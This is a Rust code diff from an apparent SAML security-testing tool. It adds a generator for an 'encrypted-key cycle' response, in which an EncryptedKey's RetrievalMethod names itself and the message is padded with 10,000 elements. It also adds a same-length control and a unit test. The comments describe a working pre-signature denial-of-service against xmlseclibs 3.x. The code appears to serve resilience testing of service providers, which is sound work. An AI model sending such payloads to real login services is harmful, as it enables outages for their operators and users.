@@ -6,7 +6,8 @@ use std::io::Write;
 use std::sync::OnceLock;
 
 use base64::Engine;
-use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N};
+use saml_protocol::xmlenc::{ENCRYPTED_KEY_TYPE, XENC_NS};
+use saml_protocol::{ASSERTION_NS, DSIG_NS, ENVELOPED, EXC_C14N, PROTOCOL_NS};
 
 use crate::bytes::{self, Doc, Node};
 use crate::check::{Burden, BURDEN_FLOOR, QUICK_FLOOR, SAME_SIZE_RATIO, SAME_WORK_RATIO};
@@ -415,6 +416,110 @@ pub fn xpath_bomb(f: &Forge) -> Result<Burden, Skip> {
     })
 }
 
+/// How many empty elements the encrypted-key cycle's response carries in `samlp:Extensions`:
+/// xmlseclibs searches the whole document for the EncryptedKey on every turn of the cycle, so
+/// each turn costs as much as the document is long (about 40 KB of them).
+pub const CYCLE_BULK: usize = 10_000;
+
+/// The Id the encrypted-key cycle gives the content key's EncryptedKey.
+const CYCLE_KEY_ID: &str = "_cycle-key";
+
+/// The IdP's own response, its Assertion encrypted to the SP (unless the IdP did), the content
+/// key's EncryptedKey moved beside EncryptedData (which names it by a `ds:RetrievalMethod`)
+/// and given a KeyInfo whose RetrievalMethod names that EncryptedKey itself, with
+/// [`CYCLE_BULK`] empty elements in `samlp:Extensions`. xmlseclibs 3.x resolves a RetrievalMethod to an EncryptedKey and then
+/// that key's own KeyInfo, with no depth limit, while it decrypts and before any signature is
+/// checked: the cycle runs until PHP's memory limit, each turn a search of the whole
+/// document. The yardstick is the same response with the key's RetrievalMethod naming an Id
+/// no element has (as long): one turn, then a refusal. An SP that takes the EncryptedKey
+/// beside EncryptedData directly may decrypt either and sign the user in.
+pub fn encrypted_key_cycle(f: &Forge) -> Result<Burden, Skip> {
+    // The IdP may encrypt the assertion already (the app has a token encryption certificate).
+    let sealed = match bytes::child(
+        Doc::parse(f.seed)?.root(),
+        ASSERTION_NS,
+        "EncryptedAssertion",
+    ) {
+        Some(_) => f.seed.to_owned(),
+        None => crate::family::enc::encrypted(
+            f,
+            f.seed,
+            saml_protocol::xmlenc::KeyTransport::RsaOaep,
+            &|a| a.to_owned(),
+        )?,
+    };
+    let doc = Doc::parse_built(&sealed)?;
+    let missing = |what: &str| Skip::Failed(format!("the encrypted response has no {what}"));
+    let encrypted = bytes::child(doc.root(), ASSERTION_NS, "EncryptedAssertion")
+        .ok_or_else(|| missing("EncryptedAssertion"))?;
+    let data = bytes::child(encrypted, XENC_NS, "EncryptedData")
+        .ok_or_else(|| missing("EncryptedData"))?;
+    let key_info =
+        bytes::child(data, DSIG_NS, "KeyInfo").ok_or_else(|| missing("EncryptedData KeyInfo"))?;
+    let key =
+        bytes::child(key_info, XENC_NS, "EncryptedKey").ok_or_else(|| missing("EncryptedKey"))?;
+    let method = bytes::child(key, XENC_NS, "EncryptionMethod")
+        .ok_or_else(|| missing("EncryptedKey EncryptionMethod"))?;
+    let issuer =
+        bytes::child(doc.root(), ASSERTION_NS, "Issuer").ok_or_else(|| missing("Issuer"))?;
+    // samlp:Extensions goes after the Issuer and the Response's Signature, if any.
+    let header_end = bytes::signature_of(doc.root())
+        .unwrap_or(issuer)
+        .range()
+        .end;
+    let name = bytes::qualified_name(doc.src, key);
+    let xenc = name.strip_suffix("EncryptedKey").unwrap_or_default();
+    let ds = bytes::qualified_name(doc.src, key_info)
+        .strip_suffix("KeyInfo")
+        .unwrap_or_default();
+    let retrieval =
+        |id: &str| format!("<{ds}RetrievalMethod Type=\"{ENCRYPTED_KEY_TYPE}\" URI=\"#{id}\"/>");
+    let bulk = "<a/>".repeat(CYCLE_BULK);
+    let with_key_naming = |id: &str| {
+        let own_key = format!(
+            "<{name} {} Id=\"{CYCLE_KEY_ID}\">{}<{ds}KeyInfo {}>{}</{ds}KeyInfo>{}</{name}>",
+            declaration(xenc, XENC_NS),
+            doc.outer(method),
+            declaration(ds, DSIG_NS),
+            retrieval(id),
+            &doc.src[method.range().end..bytes::before_end_tag(doc.src, key)],
+        );
+        bytes::splice(
+            doc.src,
+            vec![
+                bytes::insert(
+                    header_end,
+                    format!(
+                        "<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">{bulk}</samlp:Extensions>"
+                    ),
+                ),
+                (key.range(), retrieval(CYCLE_KEY_ID)),
+                bytes::insert(data.range().end, own_key),
+            ],
+        )
+    };
+    let burden = with_key_naming(CYCLE_KEY_ID);
+    let nowhere = format!("{}X", &CYCLE_KEY_ID[..CYCLE_KEY_ID.len() - 1]);
+    Ok(Burden {
+        encoded: encoded(&burden),
+        shown: burden.replace(&bulk, &format!("<a/>… ({CYCLE_BULK} of them)")),
+        yardstick: encoded(with_key_naming(&nowhere)),
+        yardstick_is: "the same response with the key's RetrievalMethod naming no element",
+        ratio: SAME_WORK_RATIO,
+        floor: BURDEN_FLOOR,
+        ignorable: true,
+    })
+}
+
+/// The `xmlns` attribute binding `prefix` (as written before a name: `xenc:`, or empty for
+/// the default namespace) to `ns`.
+fn declaration(prefix: &str, ns: &str) -> String {
+    match prefix.strip_suffix(':') {
+        Some(p) => format!("xmlns:{p}=\"{ns}\""),
+        None => format!("xmlns=\"{ns}\""),
+    }
+}
+
 /// How many attributes the many-attributes burden puts on one element: each distinct, so a
 /// parser that checks every attribute against those before it for a duplicate does about a
 /// billion comparisons.
@@ -625,6 +730,92 @@ mod tests {
             .decode(&bomb.encoded)
             .unwrap();
         saml_protocol::inflate_bounded(&deflated, (BOMB_PADDING + 4096) as u64).unwrap()
+    }
+
+    #[test]
+    fn the_encrypted_key_cycle_names_its_own_key_and_the_yardstick_names_nothing() {
+        let cert =
+            openssl::x509::X509::from_pem(include_bytes!("../../../fixtures/keys/sp-1.cert.pem"))
+                .unwrap();
+        let seed = SEED.replace(
+            "</samlp:Response>",
+            r#"<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_a"><saml:Subject><saml:NameID>b.simon</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"#,
+        );
+        let mut forge = Forge::bare(&seed);
+        forge.sp.encryption_certificate = Some(&cert);
+        let cycle = encrypted_key_cycle(&forge).unwrap();
+        assert_eq!(cycle.encoded.len(), cycle.yardstick.len());
+        let decode = |b64: &str| {
+            String::from_utf8(
+                base64::engine::general_purpose::STANDARD
+                    .decode(b64)
+                    .unwrap(),
+            )
+            .unwrap()
+        };
+        let (burden, yardstick) = (decode(&cycle.encoded), decode(&cycle.yardstick));
+        for (xml, inner) in [(&burden, CYCLE_KEY_ID), (&yardstick, "_cycle-keX")] {
+            let doc = roxmltree::Document::parse(xml).unwrap();
+            let data = doc
+                .descendants()
+                .find(|n| n.has_tag_name((XENC_NS, "EncryptedData")))
+                .unwrap();
+            let key = doc
+                .descendants()
+                .find(|n| n.has_tag_name((XENC_NS, "EncryptedKey")))
+                .unwrap();
+            // The key is EncryptedData's sibling, named by it, naming `inner` in turn.
+            assert_eq!(key.parent(), data.parent());
+            assert_eq!(key.attribute("Id"), Some(CYCLE_KEY_ID));
+            let uris: Vec<_> = doc
+                .descendants()
+                .filter(|n| n.has_tag_name((DSIG_NS, "RetrievalMethod")))
+                .map(|n| (n.attribute("Type").unwrap(), n.attribute("URI").unwrap()))
+                .collect();
+            let (first, second) = (format!("#{CYCLE_KEY_ID}"), format!("#{inner}"));
+            assert_eq!(
+                uris,
+                [
+                    (ENCRYPTED_KEY_TYPE, first.as_str()),
+                    (ENCRYPTED_KEY_TYPE, second.as_str())
+                ]
+            );
+            assert_eq!(
+                doc.descendants().filter(|n| n.has_tag_name("a")).count(),
+                CYCLE_BULK
+            );
+            // The key itself still opens the content for the SP.
+            let key_pem = include_bytes!("../../../fixtures/keys/sp-1.key.pem");
+            let sp_key = openssl::pkey::PKey::private_key_from_pem(key_pem).unwrap();
+            let value = |n: roxmltree::Node| {
+                let text = n
+                    .descendants()
+                    .find(|c| c.has_tag_name((XENC_NS, "CipherValue")))
+                    .unwrap()
+                    .text()
+                    .unwrap();
+                base64::engine::general_purpose::STANDARD
+                    .decode(text)
+                    .unwrap()
+            };
+            let content_key = saml_protocol::xmlenc::unwrap_key(
+                &value(key),
+                &sp_key,
+                saml_protocol::xmlenc::RSA_OAEP,
+            )
+            .unwrap();
+            let cipher = data
+                .children()
+                .find(|n| n.has_tag_name((XENC_NS, "CipherData")))
+                .unwrap();
+            let plain = saml_protocol::xmlenc::open(
+                &value(cipher),
+                &content_key,
+                saml_protocol::xmlenc::AES256_CBC,
+            )
+            .unwrap();
+            assert!(String::from_utf8(plain).unwrap().contains("b.simon"));
+        }
     }
 
     #[test]
